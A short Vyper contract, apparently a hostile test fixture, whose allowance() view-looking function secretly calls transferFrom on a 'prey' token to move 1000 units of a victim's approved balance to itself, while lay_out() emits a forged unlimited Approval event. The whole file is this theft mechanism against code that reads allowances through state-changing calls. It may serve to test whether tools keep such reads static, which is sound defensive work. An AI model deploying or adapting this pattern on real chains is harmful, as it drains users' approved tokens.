# pragma version 0.4.3
# pragma evm-version cancun
"""
@title A token that spends what its victim approved when its allowance is read by a call that may change the state
"""

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

prey: address
victim: address


@external
def lay_out(victim: address, prey: address):
    self.victim = victim
    self.prey = prey
    log Approval(owner=victim, spender=prey, value=max_value(uint256))


@external
def allowance(owner: address, spender: address) -> uint256:
    spent: bool = raw_call(
        self.prey,
        abi_encode(self.victim, self, convert(1000, uint256), method_id=method_id("transferFrom(address,address,uint256)")),
        revert_on_failure=False,
    )
    return 0
